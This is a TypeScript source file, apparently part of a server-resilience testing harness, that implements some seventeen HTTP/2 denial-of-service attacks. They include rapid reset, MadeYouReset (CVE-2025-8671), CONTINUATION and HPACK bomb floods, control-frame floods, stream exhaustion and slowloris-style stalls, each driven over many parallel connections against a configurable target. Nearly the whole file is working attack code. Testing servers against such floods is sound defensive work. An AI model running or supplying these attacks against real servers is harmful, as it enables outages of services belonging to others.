// Frames of HTTP/2 that cost the server more than the client.
import type { Attack, Connection, Target } from "./attack.ts";
import { acknowledgeSettings, continuation, data, headers, ping, PREFACE, priority, reset, settings, SETTINGS, windowUpdate } from "./frames.ts";
import { literal, NEWEST, remembered, request } from "./hpack.ts";

const LARGEST_WINDOW = 2 ** 31 - 1;
const LARGEST_STREAM = 2 ** 31 - 1;
const BATCH = 100;
const flood = { against: ["h2c", "h2"], connections: 20, perSecond: 50, goneWithin: 12 } as const;

const scheme = (target: Target): "http" | "https" => (target.protocol === "h2" ? "https" : "http");

async function greet(connection: Connection, pairs: readonly (readonly [number, number])[] = []): Promise<boolean> {
  return connection.send(Buffer.concat([PREFACE, settings(pairs), acknowledgeSettings()]));
}

/** Sends batches of what `make` gives for the next streams of a client, as fast as they are taken. */
async function repeat(connection: Connection, make: (stream: number) => Buffer, batch: number = BATCH): Promise<void> {
  let stream = 1;
  for (let fine = await greet(connection); fine && stream < LARGEST_STREAM - 2 * batch; ) {
    fine = await connection.send(Buffer.concat(Array.from({ length: batch }, (_, index) => make(stream + 2 * index))));
    stream += 2 * batch;
    // The other connections have their turn, and what the server says is read.
    fine &&= await connection.wait(0);
  }
}

async function whole(connection: Connection, target: Target, path: string = "/"): Promise<boolean> {
  return connection.send(headers(1, request(scheme(target), path), { headers: true, stream: true }));
}

/** Opens `most` streams, then waits and pings now and then, as a client would that is alive. */
async function openStreams(connection: Connection, most: number, make: (stream: number) => Buffer): Promise<void> {
  for (let fine = true, opened = 0; fine && opened < most; opened++) fine = await connection.send(make(1 + 2 * opened));
  while (await connection.wait(2000)) await connection.send(ping());
}

export const frameFloods: readonly Attack[] = [
  {
    ...flood,
    name: "rapid reset",
    drive: (one, target) => repeat(one, (stream) => Buffer.concat([headers(stream, request(scheme(target)), { headers: true, stream: true }), reset(stream)])),
  },
  {
    ...flood,
    // The window overflows, so the server has to reset the stream itself (CVE-2025-8671).
    name: "MadeYouReset by window",
    drive: (one, target) => repeat(one, (stream) => Buffer.concat([headers(stream, request(scheme(target)), { headers: true, stream: true }), windowUpdate(stream, LARGEST_WINDOW)])),
  },
  {
    ...flood,
    name: "MadeYouReset by data after the end",
    drive: (one, target) => repeat(one, (stream) => Buffer.concat([headers(stream, request(scheme(target)), { headers: true, stream: true }), data(stream, Buffer.from("x"))])),
  },
  {
    ...flood,
    name: "CONTINUATION flood",
    async drive(one, target) {
      const more = continuation(1, Buffer.concat(Array.from({ length: 100 }, (_, index) => literal(`x-${index}`, "a".repeat(100)))));
      let fine = (await greet(one)) && (await one.send(headers(1, request(scheme(target)), { stream: true })));
      while (fine) fine = (await one.send(more)) && (await one.wait(0));
    },
  },
  {
    ...flood,
    name: "empty CONTINUATION flood",
    async drive(one, target) {
      const more = Buffer.concat(Array.from({ length: BATCH }, () => continuation(1, Buffer.alloc(0))));
      let fine = (await greet(one)) && (await one.send(headers(1, request(scheme(target)), { stream: true })));
      while (fine) fine = (await one.send(more)) && (await one.wait(0));
    },
  },
  {
    ...flood,
    name: "HPACK bomb",
    async drive(one, target) {
      const fill = Buffer.concat([request(scheme(target)), remembered("x", "a".repeat(4000))]);
      const bomb = Buffer.concat([request(scheme(target)), ...Array.from({ length: 15_000 }, () => NEWEST)]);
      await repeat(one, (stream) => headers(stream, stream === 1 ? fill : bomb, { headers: true, stream: true }), 4);
    },
  },
  { ...flood, name: "PING flood", drive: (one) => repeat(one, ping) },
  { ...flood, name: "SETTINGS flood", drive: (one) => repeat(one, () => settings([[SETTINGS.initialWindowSize, 65_535]])) },
  { ...flood, name: "SETTINGS that change each stream's window", drive: (one, target) => changeWindows(one, target) },
  { ...flood, name: "PRIORITY flood", drive: (one) => repeat(one, (stream) => priority(stream, stream + 2)) },
  { ...flood, name: "WINDOW_UPDATE flood", drive: (one) => repeat(one, () => windowUpdate(0, 1)) },
  {
    ...flood,
    name: "empty DATA flood",
    async drive(one, target) {
      const more = Buffer.concat(Array.from({ length: BATCH }, () => data(1, Buffer.alloc(0))));
      let fine = (await greet(one)) && (await one.send(headers(1, request(scheme(target), "/", "post"), { headers: true })));
      while (fine) fine = (await one.send(more)) && (await one.wait(0));
    },
  },
  {
    ...flood,
    name: "zero-window streams",
    goneWithin: 32,
    async drive(one, target) {
      await greet(one, [[SETTINGS.initialWindowSize, 0]]);
      await openStreams(one, 100, (stream) => headers(stream, request(scheme(target), "/big"), { headers: true, stream: true }));
    },
  },
  {
    ...flood,
    name: "too many streams",
    goneWithin: 22,
    async drive(one, target) {
      await greet(one);
      await openStreams(one, 20_000, (stream) => headers(stream, request(scheme(target), "/", "post"), { headers: true }));
    },
  },
  {
    ...flood,
    name: "slow body on a stream",
    connections: 200,
    goneWithin: 22,
    async drive(one, target) {
      // Without its stream the session does no harm, and may stay.
      const isReset = one.watchResets();
      await greet(one);
      let fine = await one.send(headers(1, request(scheme(target), "/", "post"), { headers: true }));
      while (fine && !isReset()) fine = (await one.wait(500)) && (await one.send(data(1, Buffer.from("x"))));
      one.end();
    },
  },
  {
    ...flood,
    name: "headers that never end",
    connections: 200,
    async drive(one, target) {
      await greet(one);
      await one.send(headers(1, request(scheme(target)), { stream: true }));
      while (await one.wait(1000));
    },
  },
  {
    ...flood,
    name: "a response nobody reads",
    readsNothing: true,
    connections: 60,
    goneWithin: 32,
    async drive(one, target) {
      one.stopReading();
      if (await greet(one, [[SETTINGS.initialWindowSize, LARGEST_WINDOW]])) await one.send(windowUpdate(0, LARGEST_WINDOW - 65_535));
      await whole(one, target, "/big");
      while (await one.wait(1000));
    },
  },
  // Their cost is small, and clients that open sessions ahead are honest: the number is what is limited.
  { ...flood, name: "a preface and nothing more", connections: 200, goneWithin: Infinity, async drive(one) {
    await greet(one);
    while (await one.wait(1000));
  } },
];

/** Every SETTINGS frame makes the server walk its streams. */
async function changeWindows(one: Connection, target: Target): Promise<void> {
  let fine = await greet(one);
  for (let index = 0; fine && index < 90; index++) fine = await one.send(headers(1 + 2 * index, request(scheme(target), "/", "post"), { headers: true }));
  for (let round = 0; fine; round++) fine = (await one.send(Buffer.concat(Array.from({ length: 50 }, (_, index) => settings([[SETTINGS.initialWindowSize, 1000 + ((round + index) % 50)]]))))) && (await one.wait(0));
}
